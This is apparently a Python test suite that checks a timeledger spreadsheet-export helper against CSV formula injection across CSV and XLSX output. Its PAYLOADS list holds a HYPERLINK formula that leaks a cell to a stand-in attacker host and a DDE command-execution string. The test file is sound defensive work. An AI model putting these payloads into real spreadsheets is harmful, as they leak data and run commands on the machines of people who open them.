"""Exports never hand a spreadsheet a formula: OWASP's CSV-injection rule, in one place."""

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from timeledger.core import spreadsheet

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&D2,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


def test_dangerous_text_gets_a_quote_and_numbers_stay_numbers():
    assert [spreadsheet.neutralise(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert spreadsheet.neutralise("Alice") == "Alice"
    assert spreadsheet.neutralise(Decimal("-1.50")) == Decimal("-1.50")
    assert spreadsheet.neutralise(-3) == -3
    assert spreadsheet.neutralise(None) is None


@given(st.text())
def test_no_neutralised_text_starts_like_a_formula(text):
    out = spreadsheet.neutralise(text)
    assert not out.startswith(spreadsheet.FORMULA_STARTS)
    assert out.removeprefix("'") == text or out == text


def test_csv_writers_neutralise_every_cell():
    buf = io.StringIO()
    spreadsheet.csv_writer(buf).writerows([PAYLOADS])
    spreadsheet.csv_dict_writer(buf, ["a"]).writerow({"a": PAYLOADS[1]})
    cells = [c for row in csv.reader(io.StringIO(buf.getvalue())) for c in row]
    assert cells and all(c.startswith("'") for c in cells)


def test_xlsx_has_no_formula_cells():
    wb = Workbook()
    spreadsheet.xlsx_append(wb.active, [*PAYLOADS, Decimal("-1.5"), 7])
    out = io.BytesIO()
    wb.save(out)
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    cells = list(ws.iter_rows())[0]
    assert [c.data_type for c in cells].count("f") == 0
    assert [c.value for c in cells[-2:]] == [-1.5, 7]
    assert all(c.value.startswith("'") for c in cells[: len(PAYLOADS)])
